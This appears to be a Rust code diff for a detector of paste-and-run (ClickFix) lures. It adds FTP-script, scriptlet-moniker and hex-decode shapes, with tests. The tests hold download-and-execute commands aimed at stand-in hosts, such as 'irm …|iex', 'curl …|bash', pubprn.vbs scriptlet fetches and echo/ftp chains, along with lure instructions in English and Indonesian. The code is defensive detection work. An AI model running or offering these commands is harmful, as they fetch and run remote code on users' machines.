@@ -21,7 +21,8 @@ use super::weights::{
     CLICKFIX_RUN_INSTRUCTIONS,
 };
 use super::{
-    first_chars, join, push_spaces, trim, trim_by, trim_end, trim_end_by, trim_start, trim_start_by,
+    any_match, count, find, first_chars, join, push_spaces, trim, trim_by, trim_end, trim_end_by,
+    trim_start, trim_start_by,
 };
 pub use crate::snapshot::MAX_CLIPBOARD_BYTES;
 use crate::snapshot::{truncate_utf8, Snapshot};
@@ -87,6 +88,8 @@ pub enum Shape {
     Certutil,
     /// `bitsadmin /transfer`.
     Bitsadmin,
+    /// `ftp -s:FILE` with commands that fetch or run a program (`echo get r.exe>f&ftp -s:f`).
+    FtpScript,
     /// `curl.exe`/`wget` saving a URL to a Windows path and starting it
     /// (`curl.exe … -o %TEMP%\\x.exe & start %TEMP%\\x.exe`).
     DownloadStart,
@@ -121,6 +124,7 @@ impl Shape {
             Shape::ScriptHostUrl => "script_host_url",
             Shape::Certutil => "certutil_download",
             Shape::Bitsadmin => "bitsadmin_transfer",
+            Shape::FtpScript => "ftp_script",
             Shape::DownloadStart => "download_and_start",
             Shape::Base64Shell => "base64_to_shell",
             Shape::DownloadExec => "download_and_run",
@@ -278,7 +282,7 @@ impl Command {
                 }
                 continue;
             }
-            let Some(i) = t.find("://") else { continue };
+            let Some(i) = find(t, "://") else { continue };
             let host = host_of(t);
             if public_host(&host) {
                 if ip_host(&host) {
@@ -472,11 +476,11 @@ fn program(tok: &str) -> &str {
     base.strip_suffix(".exe").unwrap_or(base)
 }
 
-/// `needle` occurs in `hay`. One out-of-line copy: `str::contains` inlines a substring searcher
-/// at every call site, which cost kilobytes of Wasm here.
+/// `needle` occurs in `hay`. One out-of-line copy: the engine's search inlined at every call
+/// site cost kilobytes of Wasm here.
 #[inline(never)]
 fn has(hay: &str, needle: &str) -> bool {
-    hay.contains(needle)
+    super::has(hay, needle)
 }
 
 /// `word` occurs in `flat` with no letter or digit on either side.
@@ -485,7 +489,7 @@ fn has_word(flat: &str, word: &str) -> bool {
     let b = flat.as_bytes();
     // (An empty word would match at every border.)
     !word.is_empty()
-        && flat.match_indices(word).any(|(i, _)| {
+        && any_match(flat, word, &mut |i| {
             let before = i.checked_sub(1).map(|j| b[j]);
             let after = b.get(i + word.len()).copied();
             !before.is_some_and(|x| x.is_ascii_alphanumeric())
@@ -561,14 +565,14 @@ fn unc_host(flat: &str) -> &str {
 /// `flat` from its first UNC path on (empty when there is none).
 #[inline(never)]
 fn unc_at(flat: &str) -> &str {
-    flat.find("\\\\").map_or("", |i| &flat[i..])
+    find(flat, "\\\\").map_or("", |i| &flat[i..])
 }
 
 /// A UNC path to a host the internet can serve: a dotted name, an IP, WebDAV's `host@SSL`.
 /// A share on a single-label or `.local`-style host (`\\corp\netlogon`) is on the
 /// organisation's own network: no web page's author can put a payload there.
 fn unc_reaches_out(flat: &str) -> bool {
-    flat.match_indices("\\\\").any(|(i, _)| {
+    any_match(flat, "\\\\", &mut |i| {
         let mut rest = &flat[i + 2..];
         // `\\?\UNC\host\…` and `\\.\UNC\host\…` are the same share as `\\host\…`.
         for prefix in ["?\\unc\\", ".\\unc\\"] {
@@ -1000,8 +1004,28 @@ fn shapes(flat: &str) -> Vec<Shape> {
     if prog("msiexec") && has_url(flat) {
         out.push(Shape::MsiexecUrl);
     }
-    if (prog("wscript") || prog("cscript")) && has_url(flat) {
+    // (A `script:` moniker fetches a scriptlet and runs it, whatever runs the line: Windows'
+    // signed `pubprn.vbs 127.0.0.1 script:https://…`, thirty-ninth session.)
+    if (prog("wscript") || prog("cscript")) && has_url(flat) || has(flat, "script:http") {
         out.push(Shape::ScriptHostUrl);
+    }
+    // `ftp -s:FILE` runs the FTP commands in FILE: a lure writes them with `echo` (`open
+    // 203.0.113.7`, `get r.exe`, `!r.exe` runs it) or serves them from a share; an IT page's
+    // scripted upload or download from its own named host echoes no `!` and names no internet
+    // address (thirty-ninth session; an `.exe` fetched or a `!` anywhere in the line warned IT
+    // pages: review 39 C-M1).
+    if prog("ftp")
+        && has(flat, " -s:")
+        && (has_url(flat)
+            || public_ip_arg(
+                &toks
+                    .iter()
+                    .map(|t| t.split('>').next().unwrap_or(t))
+                    .collect::<Vec<_>>(),
+            )
+            || has(flat, "echo !"))
+    {
+        out.push(Shape::FtpScript);
     }
     if prog("certutil")
         && ["urlcache", "decode", "decodehex", "verifyctl"]
@@ -1058,9 +1082,10 @@ fn shapes(flat: &str) -> Vec<Shape> {
 
     // Unix and macOS.
     let fetch = prog("curl") || prog("wget");
+    // (`xxd -r -p` turns hex back into the script as `base64 -d` does: thirty-ninth session.)
     let b64 = toks.windows(2).any(|w| {
         program(w[0]) == "base64" && matches!(w[1], "-d" | "-D" | "--decode" | "-di" | "-id")
-    });
+    }) || prog("xxd") && has(flat, " -r");
     let to_shell = piped_to_shell(flat)
         || runs_saved(flat)
         || ["sh", "bash", "zsh"].iter().any(|s| {
@@ -1170,6 +1195,7 @@ const ALL_SHAPES: &[Shape] = &[
     Shape::ScriptHostUrl,
     Shape::Certutil,
     Shape::Bitsadmin,
+    Shape::FtpScript,
     Shape::DownloadStart,
     Shape::Base64Shell,
     Shape::DownloadExec,
@@ -1186,7 +1212,8 @@ fn is_pad(c: char) -> bool {
 
 /// Splits `raw` at its longest run of padding that hides what follows: at least
 /// [`PAD_BEFORE_COMMENT`] before a `#`/`<#`/`::`/`rem` comment, or [`PAD_ANYWHERE`] anywhere
-/// between two parts. Returns (command before, text after) when found.
+/// between two parts. Returns (the command, text after) when found: the command is what comes
+/// before a comment, or the whole text when the padding hides no comment.
 fn split_padding(raw: &str) -> Option<(&str, &str)> {
     let mut best: Option<(usize, usize, usize)> = None; // (count, start, end) in bytes
     let mut run_start = None;
@@ -1216,7 +1243,10 @@ fn split_padding(raw: &str) -> Option<(&str, &str)> {
         || rest
             .get(..4)
             .is_some_and(|p| p.eq_ignore_ascii_case("rem "));
-    (n >= PAD_ANYWHERE || comment && n >= PAD_BEFORE_COMMENT).then_some((before, after))
+    // Blanks before the payload itself (`powershell` + 5,000 blanks + `-w h …`) hide no comment:
+    // the whole command is what it runs (thirty-ninth session).
+    (n >= PAD_ANYWHERE || comment && n >= PAD_BEFORE_COMMENT)
+        .then_some((if comment { before } else { trim(raw) }, after))
 }
 
 /// Whether every address in `flat` is one an install page publishes: `https://` to a host name
@@ -1228,7 +1258,7 @@ fn published(flat: &str, windows: bool) -> bool {
         return false;
     }
     tokens(flat).iter().all(|t| {
-        let Some(i) = t.find("://") else {
+        let Some(i) = find(t, "://") else {
             // No scheme: PowerShell fetches it over http (review 31 MAIN-M1), from a host name
             // or a public IP (`203.0.113.22/r.exe`: review 32 k22).
             return !windows || bare_host(t).is_none() && !(has(t, "/") && public_ip_arg(&[t]));
@@ -1255,7 +1285,7 @@ fn sites(flat: &str) -> Vec<String> {
     let mut out = Vec::new();
     if published(flat, false) {
         for t in tokens(flat) {
-            let at = t.find("://").map(|i| i + 3);
+            let at = find(t, "://").map(|i| i + 3);
             if at.is_none() && bare_host(t).is_none() {
                 continue;
             }
@@ -1290,7 +1320,13 @@ pub fn recognise(raw: &str) -> Option<Command> {
     let comment = if !tail.is_empty() {
         tail
     } else {
-        raw.rfind(" #").map(|i| &raw[i + 2..]).unwrap_or("")
+        // The last ` #` (`rfind`): two such never overlap, so the last one from the left.
+        let mut last = None;
+        any_match(&raw, " #", &mut |i| {
+            last = Some(i);
+            false
+        });
+        last.map(|i| &raw[i + 2..]).unwrap_or("")
     };
     let comment_pretext =
         !comment.is_empty() && pretext_weight(&normalize(comment).skel, None) >= GENERIC_VERIFY;
@@ -1515,7 +1551,7 @@ impl PageHits {
     /// The page names `msiexec` in its own words, beside the commands it shows ("msiexec command
     /// line switches"): a reference page explains the tool; a lure only shows its command.
     fn explains_msiexec(&self, command: &Command) -> bool {
-        self.flat.matches("msiexec").count() > self.flat.matches(command.flat.as_str()).count()
+        count(&self.flat, "msiexec") > count(&self.flat, &command.flat)
     }
 
     /// A vendor's own Windows install guide (review 27 H3's other side, review 30 CV-H1): the
@@ -2392,6 +2428,120 @@ mod tests {
     }
 
     #[test]
+    fn thirty_ninth_session_shapes_and_their_honest_twins() {
+        // Hex turned back into a script by `xxd -r -p`, as `base64 -d` does.
+        for cmd in [
+            "echo 6375726c | xxd -r -p | sh",
+            "echo 6375726c | xxd -p -r | bash",
+            "eval \"$(echo 6375726c | xxd -rp)\"",
+        ] {
+            assert_eq!(shapes_of(cmd), vec![Shape::Base64Shell], "{cmd}");
+        }
+        assert!(shapes_of("echo 48656c6c6f0a | xxd -r -p").is_empty());
+        assert!(shapes_of("xxd -r -p dump.hex > fw.bin && sha256sum fw.bin").is_empty());
+        // A `script:` moniker: Windows' signed pubprn.vbs fetches and runs a scriptlet.
+        let prn = "C:\\Windows\\System32\\Printing_Admin_Scripts\\en-US\\pubprn.vbs 127.0.0.1 \
+                   script:https://cdn.x.test/v.sct";
+        assert_eq!(shapes_of(prn), vec![Shape::ScriptHostUrl]);
+        assert!(judged(
+            prn,
+            "Press Win and R together, paste and press Enter."
+        ));
+        // An IT page publishing printers with it names an LDAP path, no moniker.
+        assert!(shapes_of(
+            "cscript pubprn.vbs \\\\printsrv01 \"LDAP://CN=Printers,DC=corp,DC=local\""
+        )
+        .is_empty());
+        // `ftp -s:` running commands that fetch or run a program; a scripted upload does not.
+        for cmd in [
+            "cmd /c \"echo open 203.0.113.7>%TEMP%\\f&echo get r.exe>>%TEMP%\\f&ftp -s:%TEMP%\\f&%TEMP%\\r.exe\"",
+            "cmd /c \"echo open ftp.x.test>a&echo !fix.exe>>a&ftp -i -s:a\"",
+            "ftp -s:\\\\198.51.100.14@80\\pub\\f.txt",
+        ] {
+            assert!(shapes_of(cmd).contains(&Shape::FtpScript), "{cmd}");
+        }
+        assert!(!shapes_of(
+            "echo open ftp.corp.test>up.txt&echo put report.csv>>up.txt&ftp -s:up.txt"
+        )
+        .contains(&Shape::FtpScript));
+        assert!(shapes_of("ftp -s:C:\\scripts\\upload.txt ftp.corp.test").is_empty());
+        // An IT page's own script fetching its nightly build, and an upload that ends with a `!`
+        // in an echoed message (review 39 C-M1).
+        assert!(!shapes_of("echo get nightly.exe>>f.txt&ftp -s:f.txt").contains(&Shape::FtpScript));
+        assert!(
+            !shapes_of("echo put r.csv>u&ftp -s:u&echo Upload complete!")
+                .contains(&Shape::FtpScript)
+        );
+        // `explorer URL` of a program is not read: IT pages give it under Run-box steps as
+        // `msiexec /i https://…` is (review 39 C-H1).
+        assert!(shapes_of("explorer https://dl.x.test/Viewer_Setup.exe").is_empty());
+        assert!(shapes_of("explorer https://portal.corp.test/apps").is_empty());
+        assert!(shapes_of("start https://x.test/download?file=a.pdf").is_empty());
+    }
+
+    #[test]
+    fn padding_before_the_payload_shows_the_whole_command() {
+        let c = recognise(&format!(
+            "powershell{}-w h -c \"iwr https://p.x.test/c.ps1|iex\"",
+            " ".repeat(150)
+        ))
+        .expect("read");
+        assert!(c.padded);
+        assert!(c.shown.contains("p[.]x[.]test"), "{}", c.shown);
+        // Before a comment the command alone is shown, as before.
+        let c = recognise(&format!(
+            "powershell -enc SQBFAFgA{}# I am not a robot",
+            " ".repeat(40)
+        ))
+        .expect("read");
+        assert!(!c.shown.contains("robot"), "{}", c.shown);
+    }
+
+    #[test]
+    fn thirty_ninth_session_step_wordings() {
+        let irm = "powershell -c \"irm https://files.cdn-x.test/s.ps1 | iex\"";
+        let curl = "curl -fsSL https://cdn.macfix-x.test/u.sh | bash";
+        for (clip, text) in [
+            (
+                irm,
+                "Open the file: press Win and R together, then Ctrl and V, then Enter.",
+            ),
+            (
+                irm,
+                "Press the Windows and R keys at the same time, paste and press Enter.",
+            ),
+            (
+                curl,
+                "Open Finder → Applications → Utilities → Terminal. Paste and press Return.",
+            ),
+            (
+                curl,
+                "Launch the Terminal application, paste the command and press Return.",
+            ),
+            (
+                irm,
+                "Tekan tombol Windows dan R secara bersamaan, tempelkan, lalu tekan Enter.",
+            ),
+            (
+                irm,
+                "Buka kotak dialog Jalankan, tempelkan perintah dan tekan Enter.",
+            ),
+            (
+                curl,
+                "Buka aplikasi Terminal, tempelkan perintah lalu tekan Return.",
+            ),
+        ] {
+            assert!(judged(clip, text), "{text}");
+        }
+        // The same words on install docs that show their own site's command stay silent.
+        let own = "curl -fsSL https://get.tool.test/install.sh | sh";
+        let docs =
+            "Install Tool. Launch the Terminal application and paste the following command: \
+                    curl -fsSL https://get.tool.test/install.sh | sh";
+        assert!(assess(own, &PageHits::new([docs]).on("https://tool.test/install")).is_none());
+    }
+
+    #[test]
     fn windows_living_off_the_land() {
         assert_eq!(
             shapes_of("mshta https://x.example/verify.hta"),
@@ -3079,6 +3229,7 @@ mod tests {
         // run step.
         for text in [
             "Our course runs on Windows and R. Press Ctrl + V to paste the snippet.",
+            "Kursus kami memakai Windows dan R. Tekan Ctrl + V untuk menempel.",
             "The twin + R pack is sold out. Press Ctrl + V and Enter.",
             "Windows users: our keyboard shortcuts page lists many combinations, \
              for example Ctrl+R to reload. Press Ctrl + V and Enter.",
